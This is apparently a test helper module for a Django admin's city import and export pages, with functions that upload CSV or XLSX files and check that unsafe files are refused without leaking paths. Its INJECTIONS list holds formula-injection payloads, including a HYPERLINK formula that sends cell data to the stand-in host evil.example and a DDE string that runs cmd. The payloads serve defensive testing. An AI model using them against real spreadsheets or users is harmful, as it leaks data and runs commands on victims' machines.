"""The admin's import and export pages as staff use them, and the files the import
and export tests send: texts a spreadsheet would run as formulas, a header, workbooks."""

import io
import time

import openpyxl
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
]
CSV_FORMAT, XLSX_FORMAT = "0", "1"
HEADER = "slug,name_en,name_zh_hans,country,relationship,sister_since"


def upload(client, content, name="cities.csv", file_format=CSV_FORMAT, model="city"):
    if isinstance(content, str):
        content = content.encode()
    started = time.perf_counter()
    response = client.post(
        f"/admin/cities/{model}/import/",
        {"resource": "0", "format": file_format, "import_file": SimpleUploadedFile(name, content)},
    )
    assert response.status_code == 200
    return response, time.perf_counter() - started


def refused(response):
    """The page's error on the file field (or the import's own errors), as text."""
    page = response.content.decode()
    assert "Traceback" not in page and str(settings.BASE_DIR) not in page
    assert "site-packages" not in page and "/work/" not in page
    assert not response.context.get("confirm_form"), "nothing may be confirmed"
    form = response.context["form"]
    messages = list(form.errors.get("import_file", []))
    result = response.context.get("result")
    if result is not None:
        messages += [str(error.error) for error in result.base_errors]
    return " ".join(messages)


def xlsx_of(rows):
    """A workbook of `rows`, every text a text cell (`=…` too, as a typed `'=…` is)."""
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    for row in book.active.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()
